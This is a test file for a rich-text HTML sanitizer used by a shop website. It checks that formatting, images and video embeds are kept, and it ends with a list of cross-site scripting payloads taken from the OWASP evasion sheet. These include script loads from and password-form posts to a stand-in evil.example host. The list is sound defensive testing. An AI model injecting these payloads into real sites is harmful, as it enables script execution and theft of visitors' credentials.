import { describe, expect, it } from "vitest";
import { imagePath } from "../../media/image-source.ts";
import { imageUrls, sanitizeRichText } from "./rich-text.server.ts";

describe("sanitizeRichText keeps what the toolbar makes", () => {
	it.each([
		["headings", "<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>"],
		["bold, italic, underline, strike", "<p><strong>a</strong><em>b</em><u>c</u><s>d</s></p>"],
		["an alignment", '<p style="text-align:center">a</p>'],
		["colors", '<span style="color:#a63d2f;background-color:rgb(255, 240, 220)">a</span>'],
		["a link on the site", '<a href="/products?category=bread#list">a</a>'],
		["a mail link", '<a href="mailto:hello@example.com">a</a>'],
	])("%s", (_what, html) => {
		expect(sanitizeRichText(html)).toBe(html);
	});

	it.each([
		["an indent", "padding-left: 4rem", "padding-inline-start:min(4rem,40%)"],
		["a margin", "margin-left:300px", "margin-left:min(300px,40%)"],
		["a part of more than the room", "width:900%", "width:100%"],
		["a huge size", "color:red;font-size:900px", "color:red;font-size:min(1.75em,6rem)"],
		["parts of the room", "width:50%;margin-left:auto", "width:50%;margin-left:auto"],
	])("keeps %s on the screen", (_what, style, fitted) => {
		expect(sanitizeRichText(`<p style="${style}">a</p>`)).toBe(`<p style="${fitted}">a</p>`);
	});

	it.each(["ltr", "rtl", "auto"])("keeps the direction %s", (dir) => {
		const html = `<p dir="${dir}">a <a dir="${dir}" href="/b">b</a></p>`;
		expect(sanitizeRichText(html)).toBe(html);
	});

	it("links to a new tab without handing over this one", () => {
		expect(sanitizeRichText('<a href="https://example.com" target="_blank">a</a>')).toBe(
			'<a href="https://example.com" target="_blank" rel="noopener">a</a>',
		);
	});

	it("loads images late and gives every one an alternative text", () => {
		expect(sanitizeRichText('<img src="/a.jpg" width="320" height="200px">')).toBe(
			'<img src="/a.jpg" alt="" style="aspect-ratio:320/200" width="320" height="200" loading="lazy" decoding="async" />',
		);
	});

	it.each([
		["https://www.youtube.com/embed/dQw4w9WgXcQ?autoplay=1", "youtube-nocookie.com/embed/dQw4w9"],
		["//player.vimeo.com/video/76979871", "https://player.vimeo.com/video/76979871"],
	])("embeds the video %s", (source, player) => {
		const html = sanitizeRichText(`<iframe class="ql-video" src="${source}"></iframe>`);
		expect(html).toContain(player);
		expect(html).toContain('title="Video"');
		expect(html).not.toContain("autoplay");
	});

	it("names a video without a title in the site's language, and leaves others theirs", () => {
		const show = (attributes: string) =>
			sanitizeRichText(
				`<iframe src="https://youtu.be/dQw4w9WgXcQ" ${attributes}></iframe>`,
				new Map(),
				"動画",
			);
		expect(show("")).toContain('title="動画"');
		expect(show('title="Dough"')).toContain('title="Dough"');
	});
});

it.each([
	["", ""],
	['width="560" height="315"', "width:min(560px,100%);aspect-ratio:560/315"],
	['width="100%" height="90"', "width:min(160px,100%);aspect-ratio:160/90"],
])("a video given %j has its own shape on every screen", (size, style) => {
	const html = sanitizeRichText(`<iframe src="https://youtu.be/dQw4w9WgXcQ" ${size}></iframe>`);
	if (style) expect(html).toContain(` style="${style}"`);
	else expect(html).not.toContain("style");
});

describe("an image of the gallery in a rich text", () => {
	it("says what the owner says about it, unless it says something itself", () => {
		const address = "/storage/v1/object/public/product-images/loaf.jpg";
		const known = { width: 800, height: 600, colors: null, alt: "A loaf" };
		const altOf = (attributes: string) =>
			/ alt="([^"]*)"/.exec(
				sanitizeRichText(`<p><img src="${address}"${attributes}></p>`, new Map([[address, known]])),
			)?.[1];
		expect(altOf("")).toBe("A loaf");
		expect(altOf(' alt=""')).toBe("A loaf");
		expect(altOf(' alt="My own"')).toBe("My own");
	});

	const loaf = imagePath("loaf.jpg");
	const described = new Map([[loaf, { width: 400, height: 300, colors: "#edc,#b97,#753" }]]);

	it("is offered in its sizes, keeps its room and shows its colors until it is there", () => {
		expect(sanitizeRichText(`<img src="${loaf}" alt="A loaf">`, described)).toBe(
			'<img sizes="auto, (min-width: 48rem) 40rem, 91vw"' +
				' srcset="/pictures/160/product-images/loaf.jpg 160w,' +
				" /pictures/320/product-images/loaf.jpg 320w," +
				' /pictures/480/product-images/loaf.jpg 400w"' +
				' src="/pictures/1080/product-images/loaf.jpg" alt="A loaf"' +
				' style="background-image:linear-gradient(#edc,#b97,#753)"' +
				' width="400" height="300" loading="lazy" decoding="async" />',
		);
	});

	it.each([
		['width="200" style="float:left"', 'width="200" height="150"', "float:left;"],
		['height="60"', 'width="80" height="60"', ""],
		['width="200" height="150"', 'width="200" height="150"', ""],
		['width="200" height="99"', 'width="200" height="99"', "aspect-ratio:200/99;"],
	])("has the size and style that the owner gave it: %s", (given, size, style) => {
		const html = sanitizeRichText(`<img src="${loaf}" ${given}>`, described);
		expect(html).toContain(size);
		expect(html).toContain(`style="${style}background-image:linear-gradient(#edc,#b97,#753)"`);
	});

	it("is found in the text", () => {
		const elsewhere = "https://images.example/a.jpg?b=1&c=2";
		const html = `<p>a<img src='${loaf}'></p><img alt=""><a href="/b"><IMG SRC="${elsewhere.replace("&", "&amp;")}"></a>`;
		expect(imageUrls(html)).toEqual([loaf, elsewhere]);
	});
});

it("sanitizeRichText leaves out deleted images, and the links and figures around them", () => {
	const loaf = imagePath("loaf.jpg");
	const html = `<p>Ours: <a href="/about"><img src="${loaf}"></a></p><figure><img src="${loaf}"></figure>`;
	expect(sanitizeRichText(html, new Map([[loaf, null]]))).toBe("<p>Ours: </p>");
	expect(sanitizeRichText(html)).toMatch(/<a href="\/about"><img .*<figure><img /);
});

it.each([
	["", ""],
	["   \n ", ""],
	["hello", "<p>hello</p>"],
	["one\n\ntwo\r\n \r\nthree", "<p>one</p><p>two</p><p>three</p>"],
	["12 Mill Lane\nRyeford", "<p>12 Mill Lane<br />Ryeford</p>"],
	["5 < 6 & 7 > 6", "<p>5 &lt; 6 &amp; 7 &gt; 6</p>"],
	["We <3 bread", "<p>We &lt;3 bread</p>"],
	["Salt &amp; butter", "<p>Salt &amp; butter</p>"],
])("sanitizeRichText turns plain text into paragraphs %j", (text, html) => {
	expect(sanitizeRichText(text)).toBe(html);
});

/** Ways to run a script or to disturb the page, collected from the OWASP filter evasion sheet. */
const ATTACKS = [
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script/x>alert(1)</script>",
	'<img src=x onerror="alert(1)">',
	"<img src=x onerror=alert(1)//",
	"<img/src=x/onerror=alert(1)>",
	'<img src="javascript:alert(1)">',
	'<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
	'<img """><script>alert(1)</script>">',
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JaVaScRiPt:alert(1)">x</a>',
	'<a href=" javascript:alert(1)">x</a>',
	'<a href="java\tscript:alert(1)">x</a>',
	'<a href="java&#10;script:alert(1)">x</a>',
	'<a href="&#106;avascript:alert(1)">x</a>',
	'<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
	'<a href="\u0001javascript:alert(1)">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<a href="//evil.example">x</a>',
	'<a onmouseover="alert(1)">x</a>',
	'<p onclick="alert(1)" ontouchstart="alert(1)">x</p>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>',
	'<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
	'<iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
	'<object data="javascript:alert(1)"></object>',
	'<embed src="javascript:alert(1)">',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	"<style>@import 'https://evil.example/x.css';</style>",
	"<style>body{background:url(javascript:alert(1))}</style>",
	'<p style="background-image:url(https://evil.example/x)">x</p>',
	'<p style="background-color:url(https://evil.example/x)">x</p>',
	'<p style="width:expression(alert(1))">x</p>',
	'<p style="position:fixed;inset:0;z-index:9999">x</p>',
	'<p style="color:red;}</style><script>alert(1)</script>">x</p>',
	"<p style=\"font-family:'</style><script>alert(1)</script>'\">x</p>",
	'<p style="-moz-binding:url(https://evil.example/x)">x</p>',
	'<form action="https://evil.example"><input name="password"><button>x</button></form>',
	'<button formaction="javascript:alert(1)">x</button>',
	"<textarea><script>alert(1)</script></textarea>",
	'<video src="x" onerror="alert(1)"></video>',
	'<details open ontoggle="alert(1)">x</details>',
	'<marquee onstart="alert(1)">x</marquee>',
	'<p id="contact" class="modal" name="x">x</p>',
	"<!--<img src=x onerror=alert(1)>-->",
	"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<template><script>alert(1)</script></template>",
	'<td background="javascript:alert(1)">x</td>',
	'<xss style="behavior:url(x.htc)">x</xss>',
];

/** Everything that the sanitized HTML may consist of, written down independently of the rules. */
const SAFE_ELEMENT =
	/^<\/?(?:p|br|div|span|a|img|iframe|strong|table|td)(?: (?:style|href|src|alt|title|loading|decoding|tabindex|allow|allowfullscreen|referrerpolicy)(?:="[^"<>]*")?)* ?\/?>$/;

describe("sanitizeRichText leaves nothing that runs", () => {
	it.each(ATTACKS)("%s", (attack) => {
		const html = sanitizeRichText(attack);
		for (const [element] of html.matchAll(/<[^>]*>/g)) expect(element).toMatch(SAFE_ELEMENT);
		expect(html).not.toMatch(/(?:href|src)="[^"]*(?:script:|data:|evil\.example|\/\/)/i);
		expect(html).not.toMatch(/style="[^"]*(?:url|expression|position|binding|behavior)/i);
	});
});
